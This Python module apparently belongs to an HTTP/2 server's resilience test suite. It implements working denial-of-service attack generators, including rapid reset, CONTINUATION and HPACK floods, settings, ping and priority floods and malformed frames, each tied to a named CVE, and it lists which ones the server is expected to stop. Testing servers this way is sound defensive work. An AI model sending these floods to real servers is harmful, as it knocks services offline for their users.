"""Attacks on an HTTP/2 server, each as a generator of what is sent next.

An attack yields pairs: bytes, and how many frames they are. Whoever drives it looks after each pair
whether the server has had enough. Sources: the CVEs named, RFC 9113 §10.5, CERT VU#605641 (2019),
VU#767506 (2025).
"""

from __future__ import annotations

import itertools
import struct

from frames import (
    ACK, CONTINUATION, DATA, EMPTY_CALL, END_HEADERS, FULL_DUPLEX, GOAWAY, HEADERS,
    NO_MESSAGE, PADDED, PING, PRIORITY, PUSH_PROMISE, SETTINGS, STREAMING_INPUT, block, call,
    call_fields, data, frame, headers, integer, literal, priority, reset, setting, window_update,
)  # fmt: skip

BATCH = 50


def odd():
    return itertools.count(1, 2)


def batches(make):
    """Repeats what `make(stream)` returns as (bytes, frames), many to one send."""
    streams = odd()
    while True:
        parts = [make(next(streams)) for _ in range(BATCH)]
        yield b"".join(part for part, _ in parts), sum(count for _, count in parts)


def open_request(stream: int, end: bool = True, path: str = EMPTY_CALL) -> bytes:
    return headers(stream, call_fields(path), end)


# MARK: Resets


def rapid_reset():
    """CVE-2023-44487: requests, cancelled at once."""
    return batches(lambda n: (open_request(n) + reset(n), 2))


def rapid_reset_of_running_calls():
    """The same with calls whose handlers run."""
    return batches(lambda n: (open_request(n, False, FULL_DUPLEX) + reset(n), 2))


def made_reset(bad):
    """CVE-2025-8671: a valid request, then a frame that the server has to answer with a reset."""
    return batches(lambda n: (open_request(n, end=False) + bad(n), 2))


def made_reset_by_window_overflow():
    return made_reset(lambda n: window_update(n, 0x7FFFFFFF))


def made_reset_by_window_increment_of_zero():
    return made_reset(lambda n: window_update(n, 0))


def made_reset_by_priority_of_wrong_length():
    return made_reset(lambda n: frame(PRIORITY, 0, n, bytes(4)))


def made_reset_by_dependency_on_itself():
    return made_reset(lambda n: priority(n, n))


def made_reset_by_data_after_the_end():
    return batches(lambda n: (open_request(n, False) + data(n, b"", True) + data(n, b"x"), 3))


def made_reset_by_headers_after_the_end():
    return batches(lambda n: (open_request(n) + open_request(n), 2))


def made_reset_by_wrong_content_length():
    def make(n):
        fields = call_fields(EMPTY_CALL, ("content-length", "3"))
        return headers(n, fields) + data(n, NO_MESSAGE, True), 2

    return batches(make)


def made_reset_by_upper_case_name():
    return batches(lambda n: (headers(n, call_fields(EMPTY_CALL, ("Upper", "x")), True), 1))


def made_reset_by_missing_pseudo_fields():
    return batches(lambda n: (headers(n, [(":method", "POST")], True), 1))


# MARK: Header blocks


def continuation_flood():
    """CVE-2024-28182: a header block without end."""
    yield frame(HEADERS, 0, 1, block(call_fields())), 1
    while True:
        yield frame(CONTINUATION, 0, 1, literal("a", "b" * 100)) * BATCH, BATCH


def empty_continuation_flood():
    """The same, and nothing in it."""
    yield frame(HEADERS, 0, 1, block(call_fields())), 1
    while True:
        yield frame(CONTINUATION, 0, 1) * BATCH, BATCH


def hpack_bomb():
    """A large field in the table, then thousands of references of one byte to it."""
    large = b"\x40" + integer(1, 7) + b"a" + integer(4000, 7) + b"x" * 4000
    yield headers(1, block(call_fields()) + large + b"\xbe" * 8000, True), 1
    for stream in itertools.count(3, 2):
        yield headers(stream, block(call_fields()) + b"\xbe" * 15_000, True), 1


def large_header_list():
    """Lists over the limit, in plain bytes."""
    for stream in odd():
        yield headers(stream, call_fields(EMPTY_CALL, ("x", "y" * 16_100)), True), 1


def many_small_fields():
    """Lists that are short in bytes and long in fields: 32 bytes are counted for each."""
    for stream in odd():
        yield headers(stream, block(call_fields()) + literal("a", "") * 1500, True), 1


def table_size_updates():
    """The table's size changed back and forth in every block (two may stand there)."""
    return batches(lambda n: (headers(n, b"\x20\x3f\xe1\x1f" + block(call_fields()), True) + reset(n), 2))


# MARK: Frames that carry nothing


def settings_flood():
    """CVE-2019-9515."""
    while True:
        yield setting() * BATCH, BATCH


def settings_with_many_entries():
    while True:
        yield setting(*[(4, 65_535)] * 1000), 1


def settings_acknowledgement_flood():
    while True:
        yield frame(SETTINGS, ACK) * BATCH, BATCH


def ping_flood():
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * BATCH, BATCH


def ping_acknowledgement_flood():
    while True:
        yield frame(PING, ACK, 0, bytes(8)) * BATCH, BATCH


def empty_data_flood():
    """CVE-2019-9518."""
    yield headers(1, call_fields(STREAMING_INPUT)), 1
    while True:
        yield data(1, b"") * BATCH, BATCH


def padding_flood():
    """DATA with padding and nothing else."""
    yield headers(1, call_fields(STREAMING_INPUT)), 1
    while True:
        yield frame(DATA, PADDED, 1, bytes([9]) + bytes(9)) * BATCH, BATCH


def priority_churn():
    """CVE-2019-9513."""
    while True:
        for stream in odd():
            yield priority(stream, stream + 2) * BATCH, BATCH


def window_update_flood():
    while True:
        yield window_update(0, 1) * BATCH, BATCH


def window_update_flood_on_a_stream():
    yield headers(1, call_fields(FULL_DUPLEX)), 1
    while True:
        yield window_update(1, 1) * BATCH, BATCH


def reset_flood_on_closed_streams():
    yield call(1) + reset(1), 3
    while True:
        yield reset(1) * BATCH, BATCH


def go_away_flood():
    yield headers(1, call_fields(FULL_DUPLEX)), 1
    while True:
        yield frame(GOAWAY, 0, 0, bytes(8)) * BATCH, BATCH


# MARK: What the protocol forbids at once


def frame_over_the_limit():
    yield headers(1, call_fields()) + data(1, bytes(16_385)), 2


def push_promise_of_a_client():
    yield frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + block(call_fields())), 1


def garbage_after_the_preface():
    yield bytes(range(256)) * 64, 1


# The server has to stop these, by GOAWAY or by closing.
STOPPED = [
    rapid_reset, rapid_reset_of_running_calls,
    made_reset_by_window_overflow, made_reset_by_window_increment_of_zero,
    made_reset_by_priority_of_wrong_length, made_reset_by_dependency_on_itself,
    made_reset_by_data_after_the_end, made_reset_by_headers_after_the_end,
    made_reset_by_wrong_content_length, made_reset_by_upper_case_name,
    made_reset_by_missing_pseudo_fields,
    continuation_flood, empty_continuation_flood, hpack_bomb, large_header_list, many_small_fields,
    table_size_updates,
    settings_flood, settings_with_many_entries, settings_acknowledgement_flood,
    ping_flood, ping_acknowledgement_flood, empty_data_flood, padding_flood, priority_churn,
    window_update_flood, window_update_flood_on_a_stream, reset_flood_on_closed_streams,
    go_away_flood, frame_over_the_limit, push_promise_of_a_client, garbage_after_the_preface,
]  # fmt: skip

# MARK: What costs nothing, and what only piles up


def unknown_frames():
    """RFC 9113 §4.1: ignored, and cheap."""
    while True:
        yield frame(0xBE, 0xFF, 0, bytes(64)) * BATCH, BATCH


def streams_over_the_limit():
    """Calls that never end, beyond SETTINGS_MAX_CONCURRENT_STREAMS: REFUSED_STREAM."""
    return batches(lambda n: (headers(n, call_fields(FULL_DUPLEX)), 1))


def message_that_is_announced_and_never_comes():
    """A length of 4 GiB in the message's prefix, on every stream."""
    return batches(
        lambda n: (headers(n, call_fields()) + data(n, b"\0\xff\xff\xff\xff"), 2)
    )


def bytes_one_by_one():
    """A message in DATA frames of one byte."""
    yield headers(1, call_fields(STREAMING_INPUT)) + data(1, b"\0\0\x10\0\0"), 2
    while True:
        yield data(1, b"x") * BATCH, BATCH


# The server may live with these, but not grow or slow down.
BORNE = [
    unknown_frames, streams_over_the_limit, message_that_is_announced_and_never_comes,
    bytes_one_by_one,
]  # fmt: skip
